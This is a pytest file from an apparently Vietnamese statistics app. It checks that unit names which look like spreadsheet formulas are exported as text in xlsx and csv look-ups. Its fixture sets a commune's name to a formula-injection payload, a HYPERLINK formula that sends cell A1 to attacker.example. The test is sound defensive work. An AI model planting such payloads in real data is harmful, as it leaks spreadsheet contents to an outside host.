"""Issue 8 item 8: a unit whose name starts like a formula is exported as text by the look-up (.xlsx and .csv)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from kiemtra.conftest import signed_in
from kiemtra.stats.services import reports
from kiemtra.stats.tests.factories import Chain, make_chain

pytestmark = pytest.mark.django_db
NAME = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'


@pytest.fixture
def chain() -> Chain:
    chain = make_chain()
    chain.open()
    commune = chain.communes[0]
    commune.name = NAME
    commune.save(update_fields=["name"])
    report = chain.report(commune)
    reports.save_values(chain.statistician[commune.pk], report, chain.cells(R1_C1=4), expected_revision=report.revision)
    return chain


def test_the_xlsx_look_up_writes_a_formula_like_unit_name_as_text(chain: Chain) -> None:
    client = signed_in(chain.statistician[chain.tree.province.pk])
    response = client.get("/thong-ke/tra-cuu/xuat/?export=xlsx&form=01&row=1&column=1")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows() if row[0].value == NAME]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_the_csv_look_up_writes_a_formula_like_unit_name_with_an_apostrophe(chain: Chain) -> None:
    client = signed_in(chain.statistician[chain.tree.province.pk])
    response = client.get("/thong-ke/tra-cuu/xuat/?export=csv&form=01&row=1&column=1")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert ["'" + NAME, "4"] in [r[:2] for r in rows]
    assert not any(field.startswith("=") for r in rows for field in r)
